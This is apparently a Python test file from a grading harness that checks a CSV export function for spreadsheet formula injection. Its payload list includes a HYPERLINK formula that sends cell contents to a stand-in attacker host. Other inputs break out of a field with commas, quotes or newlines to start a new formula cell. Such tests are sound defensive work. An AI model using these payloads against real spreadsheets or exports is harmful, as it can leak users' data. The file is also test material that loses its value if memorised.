import csv
import io

from oracle import OracleCase

FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"more")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "==1+2",
    "+=1+2",
    "--1",
)


class Security(OracleCase):
    def attack(self, field, text):
        entry = {"name": "Zora", "town": "Bergen", "stars": 5, "comment": "Lovely", field: text}
        table = self.solution.attempt("export_entries", [entry]).value
        if not isinstance(table, str):
            return
        try:
            rows = list(csv.reader(io.StringIO(table, newline="")))
        except csv.Error:
            return
        for cell in sum(rows, []):
            if cell.startswith(("=", "+", "-", "@")):
                self.attack_succeeded(f"a spreadsheet program computes the cell {cell!r} ({field})")

    def test_a_text_does_not_become_a_formula(self):
        for field in ("name", "town", "comment"):
            for formula in FORMULAS:
                self.attack(field, formula)

    def test_a_text_does_not_begin_another_cell(self):
        for field in ("name", "town", "comment"):
            for formula in FORMULAS:
                for break_out in (",", "\n", "\r\n", '",', '"\n', '"",'):
                    self.attack(field, "x" + break_out + formula)
